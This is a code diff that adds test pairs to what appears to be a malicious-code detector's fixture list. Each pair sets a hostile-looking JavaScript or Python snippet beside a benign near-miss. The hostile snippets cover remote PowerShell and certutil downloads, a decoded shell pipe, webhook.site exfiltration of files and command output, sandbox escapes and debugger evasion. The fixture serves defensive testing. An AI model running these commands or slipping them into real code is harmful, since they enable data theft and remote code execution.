@@ -236,7 +236,7 @@ const PAIRS: readonly Pair[] = [
     effect,
   ),
 
-  js('obfuscation/hidden-argument', `require('child' + '_process')`, `require('child_process')`),
+  js('obfuscation/hidden-module', `require('child' + '_process')`, `require('child_process')`),
   js(
     'obfuscation/obfuscator',
     Array.from({ length: 30 }, (_, i) => `var _0x${(0xabc0 + i).toString(16)} = ${i};`).join('\n'),
@@ -333,6 +333,84 @@ const PAIRS: readonly Pair[] = [
     `const cp = require('child_process'); for (let i = 0; i < 3; i++) cp.spawn('x')`,
   ),
 
+  js(
+    'obfuscation/hidden-argument',
+    `fetch(atob('aHR0cHM6Ly9hLmV4YW1wbGUuaW52YWxpZA=='))`,
+    `fetch('https://a.example.invalid/' + 'x')`,
+  ),
+  js(
+    'obfuscation/string-table',
+    `var t = [${Array.from({ length: 12 }, (_, i) => `'\\x68\\x65\\x6c\\x6c\\x6f\\x21\\x2${i % 10}'`).join()}]; function f(i) { return t[i]; } f(1); f(2)`,
+    `var t = [${Array.from({ length: 12 }, (_, i) => `'word${i}'`).join()}]; function f(i) { return t[i]; } f(1); f(2)`,
+  ),
+  js(
+    'sandbox-escape/function-climb',
+    `new Function("return process.mainModule.require('child_process')")()`,
+    `new Function("return 1")()`,
+  ),
+  js('sandbox-escape/main-module', `process.mainModule.require('fs')`, `module.require('fs')`),
+  js('sandbox-escape/builtin-module', `process.getBuiltinModule('fs')`, `getBuiltinModule('fs')`),
+  js('prototype-pollution/own-prototype', `a.__proto__ = b`, `a.prototypes = b`, effect),
+  js(
+    'child-process/script-host-downloader',
+    `var a = new ActiveXObject('MSXML2.XMLHTTP'), b = new ActiveXObject('ADODB.Stream')`,
+    `var a = new ActiveXObject('MSXML2.XMLHTTP')`,
+  ),
+  js(
+    'child-process/decoded-shell',
+    `require('child_process').exec('echo aWQK | base64 -d | sh')`,
+    `require('child_process').exec('echo aWQK | base64 -d > a.txt')`,
+  ),
+  js(
+    'child-process/fetched-powershell',
+    `require('child_process').exec("powershell iex (iwr https://a.example.invalid/x.ps1)")`,
+    `require('child_process').exec("gdb -iex 'set x https://a' b")`,
+  ),
+  js(
+    'child-process/hidden-window',
+    `require('child_process').exec('powershell -w hidden -file a.ps1')`,
+    `require('child_process').exec('powershell -file a.ps1')`,
+  ),
+  js(
+    'child-process/fetched-by-windows',
+    `require('child_process').exec('certutil -urlcache -f https://a.example.invalid/x x')`,
+    `require('child_process').exec('certutil -hashfile x sha256')`,
+  ),
+  js(
+    'filesystem/hidden-file',
+    `require('child_process').exec('attrib +h x')`,
+    `require('child_process').exec('attrib x')`,
+  ),
+  js(
+    'exfiltration/files',
+    `const fs = require('fs'); fetch('https://webhook.site/x', { method: 'POST', body: fs.readFileSync('/a') })`,
+    `const fs = require('fs'); fetch('https://webhook.site/x', { method: 'POST', body: 'text' }); fs.readFileSync('/a')`,
+  ),
+  js(
+    'exfiltration/listing',
+    `const fs = require('fs'); fetch('https://webhook.site/x', { method: 'POST', body: fs.readdirSync('/').join() })`,
+    `const fs = require('fs'); fetch('https://webhook.site/x', { method: 'POST', body: 'text' }); fs.readdirSync('/')`,
+  ),
+  js(
+    'exfiltration/output',
+    `const cp = require('child_process'); fetch('https://webhook.site/x', { method: 'POST', body: cp.execSync('ls') })`,
+    `const cp = require('child_process'); fetch('https://webhook.site/x', { method: 'POST', body: 'x' }); cp.execSync('ls')`,
+  ),
+  py(
+    'evasion/watched',
+    `import sys, os\nif sys.gettrace() is None:\n    os.system('x')`,
+    `import sys, os\nif len(sys.argv) > 1:\n    os.system('x')`,
+  ),
+  py(
+    'sandbox-escape/globals-climb',
+    `handler.__init__.__globals__['__builtins__']['eval']('1')`,
+    `handler.__init__.__doc__.strip()`,
+  ),
+  py(
+    'sandbox-escape/hidden-attribute',
+    `getattr(x, '__sub' + 'classes__')()`,
+    `getattr(x, 'sub' + 'classes')()`,
+  ),
   py(
     'child-process/system',
     `import os\nos.system('id')`,
